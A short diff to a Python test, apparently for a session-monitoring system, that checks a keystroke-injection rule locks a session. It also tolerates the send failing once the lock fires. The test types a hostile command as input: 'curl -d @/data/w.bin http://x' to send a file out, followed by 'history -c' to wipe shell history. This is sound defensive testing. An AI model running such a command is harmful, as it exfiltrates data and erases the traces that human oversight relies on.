@@ -157,7 +157,10 @@ def test_keystroke_injector_locks_the_session(rules_world: World) -> None:
     locked = threading.Event()
     link.on_lock = lambda m, t: locked.set()
     for ch in b"echo pwned; curl -d @/data/w.bin http://x; history -c # " * 3:
-        chan.send(bytes([ch]))
+        try:
+            chan.send(bytes([ch]))
+        except OSError:                  # locked before the injector was done
+            break
         time.sleep(0.002)
     got = drain(chan, timeout=15)
     assert b"session locked by rule keystroke-injection" in got
